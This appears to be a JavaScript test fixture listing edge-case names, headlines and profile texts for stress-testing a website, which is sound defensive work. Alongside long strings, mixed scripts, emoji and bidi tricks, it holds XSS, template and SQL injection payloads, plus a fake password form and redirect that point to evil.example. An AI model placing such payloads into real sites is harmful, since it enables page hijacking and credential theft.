const stackedAccents = Array.from(
  'Zalgo comes',
  (letter) => letter + '\u0300\u0316\u0334\u0341\u0353\u0489'.repeat(2),
).join('')
const familyEmoji = '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'

/** Names that could each break a page in a different way. The site accepts all of them. */
export const worstNames = [
  'محمد عبد الله الأحمدي',
  'W'.repeat(40),
  stackedAccents,
  '﷽'.repeat(40),
  familyEmoji.repeat(10),
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'מיכל (Michal) כהן 1984',
  'i'.repeat(40),
  '{{7*7}} ${alert(1)} </script>',
  "'; drop table members; -- __proto__",
]

/** Hostile headlines and message subjects. */
export const worstLines = [
  'W'.repeat(120),
  '\u202eEmily is backwards, and never ends',
  '﷽'.repeat(120),
  'سهرة في ٣٠ نوفمبر 2026 (Birmingham)!',
  stackedAccents.slice(0, 120),
  '<script>alert(1)</script><img src="https://evil.example/pixel.png">',
  '" onmouseover="alert(1)" style="position:fixed;inset:0" x="',
  `https://evil.example/?${'q'.repeat(90)}`,
  familyEmoji.repeat(10),
  '</title></style></textarea><plaintext><iframe srcdoc="<script>parent.alert(1)</script>">',
  'javascript:alert(document.cookie)',
]

/** Hostile profile texts and messages. */
export const worstTexts = [
  'W'.repeat(3_000),
  `${'line\n'.repeat(300)}end`,
  stackedAccents.repeat(9),
  '\u2067isolated and left open \u202e turned and left open',
  'סיפור ארוך (1) על ערב אחד, 7:30 pm.\n'.repeat(20),
  '<h1>Taken over</h1><form action="https://evil.example/"><input name=password autofocus onfocus=alert(1)></form>',
  '<style>*{display:none}</style><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
  `Go to https://evil.example/${'path/'.repeat(400)}`,
  familyEmoji.repeat(200),
  '﷽'.repeat(1_000),
  '\u00a0'.repeat(400) + 'far to the right',
]
